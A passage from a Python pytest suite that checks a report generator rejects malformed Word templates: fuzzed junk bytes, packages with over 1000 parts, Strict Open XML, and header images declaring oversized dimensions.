            cut = data.draw(st.integers(0, len(text)))
            junk = data.draw(st.sampled_from([b"<", b"&x;", b"\x00", b"</w:p>", b"<w:p>",
                                              b'r:id="rId1"', b"\xff\xfe", b""]))
            package.parts[name] = text[:cut] + junk + text[cut:]
        blob = bytearray(package.blob())
    path = tmp_path_factory.mktemp("fuzz") / "skadet.dotx"
    path.write_bytes(bytes(blob))
    try:
        open_template(path)
    except ReportError as exc:
        text = str(exc)
        assert text.startswith("skadet.dotx: ")
        assert "\n" not in text
        assert "object at 0x" not in text


def test_a_template_of_many_tiny_parts_is_refused(project, tmp_path):
    package = Package(HOUSE)
    for n in range(1200):
        package.parts[f"word/x/{n}.xml"] = b"<x/>"
    template = tmp_path / "mange.docx"
    template.write_bytes(package.blob())
    with pytest.raises(ReportError, match=r"^mange\.docx: more than 1000 parts$"):
        write_report(project, tmp_path / "r.docx", template=template)


def test_strict_open_xml_is_refused_with_advice(project, tmp_path):
    package = Package(HOUSE)
    package.parts["_rels/.rels"] = package.parts["_rels/.rels"].replace(
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument",
        b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument")
    template = tmp_path / "strict.docx"
    template.write_bytes(package.blob())
    with pytest.raises(ReportError, match=r"^strict\.docx: Strict Open XML is not supported"):
        write_report(project, tmp_path / "r.docx", template=template)


@pytest.mark.parametrize(("kind", "picture"), [
    ("png", png()[:16] + struct.pack(">II", 100_000, 100_000) + png()[24:]),
    ("gif", GIF[:6] + struct.pack("<HH", 65_000, 65_000) + GIF[10:]),
    ("jpeg", b"\xff\xd8\xff\xe0\x00\x04ab\xff\xc0\x00\x0b\x08" + struct.pack(">HH", 60_000, 60_000)
     + b"\x01\x01\x11\x00\xff\xd9"),
])
def test_a_header_picture_declaring_huge_dimensions_is_refused(project, tmp_path, kind,
                                                               picture):
    package = Package(HOUSE)
    package.parts["word/media/image1.png"] = picture
    template = tmp_path / f"stort-{kind}.docx"
    template.write_bytes(package.blob())
    with pytest.raises(ReportError, match=rf"^stort-{kind}\.docx: .*more than 50 megapixels"):
        write_report(project, tmp_path / "r.docx", template=template)
